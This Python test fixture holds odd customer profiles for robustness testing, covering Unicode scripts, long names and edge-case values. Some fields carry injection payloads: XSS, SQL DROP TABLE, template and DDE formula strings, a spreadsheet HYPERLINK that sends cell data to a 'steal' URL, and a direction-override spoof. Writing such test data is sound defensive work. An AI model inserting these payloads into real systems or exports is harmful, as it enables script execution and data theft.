"""Customers who break careless programs: markup, long names, every script and direction, unusual source_ids."""

from typing import Any

Document = dict[str, Any]

_LONG_NAME = "Wolfeschlegelsteinhausenbergerdorff " * 8 + "von Hohenlohe"

ODD_PROFILES: tuple[Document, ...] = (
    {"source_id": "markup-1", "name": "<img src=x onerror=alert(1)>", "email": "markup.one@example.org"},
    {"source_id": "a/b?c=d#e%2F+x@y z", "name": "Perry Cent-Encoded", "email": "perry@example.org"},
    {
        "source_id": "markup-2",
        "name": '"><script>alert(2)</script>',
        "description": "<b>not bold</b> & <!-- not hidden -->",
    },
    {"source_id": "'; DROP TABLE customers;--", "name": "Robert'); DROP TABLE Students;--"},
    {"source_id": "template-1", "name": "{{7*7}} ${7*7} {% raw %}", "metadata": {"{{config}}": "{{7*7}}"}},
    {
        "source_id": "=1+1",
        "name": '=HYPERLINK("https://example.org/steal?"&A1,"Click")',
        "email": "formula@example.org",
    },
    {"source_id": "formula-2", "name": "+cmd|' /C calc'!A0", "description": "@SUM(1+1)*cmd", "phone": "-1+1"},
    {"source_id": "emoji-1", "name": "👩🏽‍🚀 Astrid 👨‍👩‍👧‍👦", "description": "🏳️‍🌈🇮🇸 likes flags"},
    {"source_id": "marks-1", "name": "Z̸̢̛a̵͎͝l̷̥̈g̶̼̽o̵͓͊ O'Zu\u0301n\u0303iga"},
    {
        "source_id": "marks-2",
        "name": "Ame\u0301lie",
        "email": "amelie.nfd@example.org",
        "description": "Decomposed accents.",
    },
    {
        "source_id": "marks-3",
        "name": "Am\u00e9lie",
        "email": "amelie.nfc@example.org",
        "description": "Composed accents.",
    },
    {
        "source_id": "long-1",
        "name": _LONG_NAME[:300],
        "address": {"city": "Taumatawhakatangihangakoauauotamateaturipukakapiki"},
    },
    {"source_id": "short-1", "name": "O", "address": {"city": "Å", "country": "Norway"}},
    {"source_id": "blank-1", "name": "   ", "email": ""},
    {"source_id": "rtl-1", "name": "מרים (Miriam) אבן-חן", "address": {"line_1": "רחוב 12, דירה 3", "city": "חיפה"}},
    {
        "source_id": "rtl-2",
        "name": "\u202eevil\u202c عبد الله",
        "description": "The name carries a direction override.",
    },
    {"source_id": "عميل-٤٢", "name": "ليلى الهاشمي", "address": {"city": "القاهرة", "country": "Egypt"}},
    {"source_id": "客户/四十二", "name": "𠮷野家", "address": {"city": "北京"}},
    {
        "source_id": "null",
        "name": "Null",
        "email": "null@example.org",
        "metadata": {"membership_level": "bronze", "": "no key"},
    },
    {"source_id": "undefined", "name": "Jennifer True", "metadata": {"accepts_marketing": False, "store_visits": 0}},
    {"source_id": "0", "name": "Zero", "description": "0"},
    {"source_id": "..", "name": "Dot Dot", "email": '"dots..dots"@example.org'},
    {"source_id": "new", "name": "Newman Search-Edit"},
    {"source_id": "plus+plus@example.org", "name": "Ada Plus", "email": "plus+plus@example.org"},
    {"source_id": "leap-1", "name": "Leap Dayton", "birthdate": "1992-02-29", "birthday": "1992-03-01"},
    {"source_id": "old-1", "name": "Kane Tanaka-Ōmura", "birthdate": "1903-01-02"},
    {
        "source_id": "deep-1",
        "name": "Matr Ioshka",
        "metadata": {"box": {"box": {"box": {"box": ["in", ["side"]]}}}, "big": 10**15},
    },
    {"source_id": "long-2", "name": "Lengthy Note", "description": "Called again about the same parcel. " * 60},
    {"source_id": "empty-address", "name": "No Fixed Abode", "address": {"city": None, "country": None}},
)
